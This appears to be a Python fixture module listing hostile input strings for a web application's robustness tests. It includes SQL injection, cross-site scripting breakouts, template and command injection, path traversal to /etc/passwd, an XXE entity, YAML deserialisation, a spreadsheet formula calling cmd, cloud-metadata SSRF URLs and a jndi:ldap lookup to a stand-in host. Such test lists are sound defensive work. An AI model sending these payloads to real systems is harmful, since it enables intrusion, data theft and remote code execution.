"""Strings that people type, paste and send to see what breaks. Nothing may fail on any of them."""

import os
from itertools import product

from core.tests.xss import PAYLOADS

CONTROLS = [
    *(f"a{chr(code)}b{chr(code + 1)}c" for code in range(0, 0x20, 2)),
    *(f"a{chr(code)}b{chr(code + 4)}c" for code in range(0x7F, 0xA0, 8)),
    *("\x00", "\x00" * 40, "\r", "\n", "\r\n\r\n", "\t\t", " ", "\x1b[31mred\x1b[0m", "\x08" * 9),
]
UNICODE = [
    *("\u202eexe.gpj", "\u202aא\u202c", "\u2066\u2067\u2069\u2069", "שלום עולם", "مرحبا بالعالم"),
    *(
        "\u200b",
        "\u200d\u200d",
        "\u2060x",
        "\ufeffx",
        "\u00ad" * 20,
        "\u2028\u2029",
        "\u180e",
        "\u3164",
    ),
    *(
        "\ud800",
        "a\udfffb",
        "\udc00\ud800",
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\U0010ffff",
        "\U000e0001x",
    ),
    *("e\u0301", "é", "Z\u0351\u036b\u0343\u0300" * 30, "\u0301", "ﷺ", "ﬃ", "ẞ", "İi̇ıI", "ǅ", "ꙮ"),
    *(
        "👩‍👩‍👧‍👦",
        "👍🏿",
        "🇺🇳🇺",
        "☃️",
        "❤" * 60,
        "1️⃣",
        "𝕳𝖔𝖘𝖙",
        "Ｆｕｌｌ",
        "एक",
        "ตัวอย่าง",
        "語" * 500,
    ),
    *(
        "\u00a0\u2003\u3000",
        "\u1680x\u205f",
        "K\u212a",
        "ſ",
        "\u0085\u2029",
        "\ue000\uf8ff",
        "҉" * 50,
    ),
]
LONG = [
    *("a" * 100_000, "a " * 50_000, "\n" * 100_000, "<" * 100_000, "&amp;" * 20_000, "語" * 33_000),
    *("(" * 5_000, "[" * 5_000, "*" * 5_000, "> " * 2_500, "`" * 5_000, "![" * 2_500, '" ' * 5_000),
    *(
        "- " * 2_400,
        "|" * 4_900,
        "# " * 2_400,
        "a" * 255,
        "a" * 256,
        "a" * 65_536,
        "\u0301" * 4_000,
    ),
]
SQL = [
    *(
        "'",
        '"',
        "`",
        ";",
        "--",
        "/*",
        "*/",
        "\\",
        "\\'",
        "''",
        "' OR '1'='1",
        "' OR 1=1 --",
        "') OR ('1",
    ),
    *(
        "1; DROP TABLE articles_article",
        "'; DROP TABLE comments_comment; --",
        "1 UNION SELECT NULL",
    ),
    *("' UNION SELECT password FROM accounts_user --", "1' AND SLEEP(5) #", "'||(SELECT 1)||'"),
    *(
        "1) OR 1=1",
        "pg_sleep(5)",
        "x' AND 1=CAST('a' AS int) --",
        "$$a$$",
        "E'\\x00'",
        "?",
        "%s",
        ":1",
    ),
]
FULL_TEXT = [
    *(
        '"',
        '""',
        '"a',
        '"* OR NEAR(',
        "a*",
        "*a",
        "^a",
        "-a",
        "+a",
        "a AND",
        "NOT",
        "OR OR",
        "NEAR/2",
    ),
    *(
        "NEAR(a b, 3)",
        "title:x",
        "{a b}",
        "a:*",
        "a & !",
        "!!",
        "a | b",
        "<->",
        "a <-> b",
        "a <2> b",
    ),
    *(
        "' | '",
        "a' & 'b",
        "a:ABCD*",
        "\\:",
        "(a",
        "a)",
        "()",
        "& | !",
        "AND OR NOT",
        "rowid",
        "rank",
    ),
]
WILDCARDS = [
    "%",
    "_",
    "%%",
    "__",
    "%a_",
    "\\%",
    "[a-z]",
    "*",
    ".*",
    "(a+)+$",
    "^(a|a)*$",
    "a{99999}",
]
TEMPLATES = [
    *(
        "{{ 7*7 }}",
        "{{ request.user }}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% load x %}",
    ),
    *(
        "{% include '/etc/passwd' %}",
        "{{",
        "{%",
        "{#",
        "#}",
        "{{ x|safe }}",
        "{% endblock %}",
        "${7*7}",
    ),
    *(
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('pwned=1')()}}",
        "${jndi:ldap://x.example/a}",
    ),
]
EXECUTABLE = [
    *("javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "\x01javascript:pwned()"),
    *(
        "javascript://a.example/%0apwned()",
        "vbscript:pwned()",
        "data:text/html,<script>pwned()</script>",
    ),
    *(
        "data:image/svg+xml,<svg onload=pwned()>",
        "view-source:x",
        "//evil.example",
        "/\\evil.example",
    ),
    *(
        "https:evil.example",
        "http://a@b@c",
        "https://user:pass@a.example",
        "http://[::1",
        "http://é.example",
    ),
    *(
        "file:///etc/passwd",
        "ftp://a.example/",
        "http://127.0.0.1:6379/",
        "http://169.254.169.254/",
    ),
]
# Each of them ends one context and starts a script in the next.
BREAKOUTS = [
    before + run
    for before, run in product(
        ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '"}', "&quot;>"),
        (
            "<script>pwned()</script>",
            '" autofocus onfocus=pwned() x="',
        ),
    )
]
HEADERS = [
    *(
        "a\r\nSet-Cookie: pwned=1",
        "a\nLocation: https://evil.example",
        "a\r\n\r\n<b>x</b>",
        "%0d%0aX: y",
    ),
    *(
        "a\u560d\u560aX: y",
        "a@b.example\nBcc: c@d.example",
        "Content-Length: 0\r\n\r\n",
        "\r\n.\r\n",
    ),
]
PATHS = [
    *(
        "../../etc/passwd",
        "..\\..\\win.ini",
        "..%2f..%2f",
        "%2e%2e/",
        "....//....//",
        "/etc/passwd",
        ".",
    ),
    *(
        "..",
        "~",
        "C:\\",
        "\\\\host\\share",
        "a/b",
        "con",
        ".env",
        ".git/config",
        "x.html.php",
        "%00.png",
    ),
]
FORMATS = [
    *(
        "%s%s%s%n",
        "%x" * 20,
        "%(a)s",
        "{}",
        "{0}",
        "{0.__class__}",
        "{a!r:>999999999}",
        "%c",
        "%d",
        "$a",
    ),
    *(
        "; ls",
        "| id",
        "`id`",
        "$(id)",
        "&& id",
        "() { :;}; id",
        "<!--#exec cmd='id'-->",
        "*)(uid=*",
    ),
]
NUMBERS = [
    *(
        "0",
        "-0",
        "-1",
        "1.5",
        "1,5",
        "1e309",
        "-1e309",
        "1e-400",
        "NaN",
        "Infinity",
        "0x10",
        "0b1",
        "१२",
    ),
    *("9" * 18, "9" * 19, "9223372036854775807", "9223372036854775808", "18446744073709551616"),
    *(
        "2147483648",
        "9" * 400,
        "2" * 5_000,
        "00012",
        "+1",
        "1_000",
        "²",
        "Ⅷ",
        "1e1000000",
        "0.1" + "0" * 90,
    ),
]
DATES = [
    *("0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-13-01", "-2026"),
    *("2026-06-01T00:00:00+99:99", "2026-W54", "now", "31/12/99", "23:59:60", "2026-06-01 \x00"),
]
STRUCTURES = [
    *("null", "true", "undefined", "[]", "{}", '{"a":', '{"__proto__": {"pwned": 1}}', "[" * 3_000),
    *(
        "<a/>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "&b;",
        "&#x0;",
        "&#0",
    ),
    *(
        "--- !!python/object/apply:os.system [id]",
        "a: &a [*a]",
        "gASVAAAAAAAAAA==",
        "O:8:'stdClass':0:{}",
    ),
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    '=HYPERLINK("//x")',
    "a,b\n",
]

# What one database takes otherwise than another.
STORED = [*CONTROLS, *UNICODE, *LONG, *SQL, *FULL_TEXT, *WILDCARDS, *NUMBERS, *DATES]
# Words like any other to each of them: tried beside SQLite alone.
MARKED_UP = [
    *(*TEMPLATES, *EXECUTABLE, *BREAKOUTS, *HEADERS, *PATHS, *FORMATS, *STRUCTURES, *FORMULAS),
    *PAYLOADS[::3],
]
EVERYTHING = list(dict.fromkeys([*STORED, *MARKED_UP]))
BESIDE_SQLITE = "DATABASE_URL" not in os.environ
HOSTILE = EVERYTHING if BESIDE_SQLITE else list(dict.fromkeys(STORED))
# Would call `pwned` or `alert` where they are not shown as words.
MARKUP = [*PAYLOADS, *BREAKOUTS, *EXECUTABLE]


def sample(count, first=0) -> list[str]:
    """So many of all kinds, half of that on the second database. Another `first` gives others."""
    count = count if BESIDE_SQLITE else (count + 1) // 2
    return HOSTILE[first % (len(HOSTILE) // count) :: len(HOSTILE) // count]
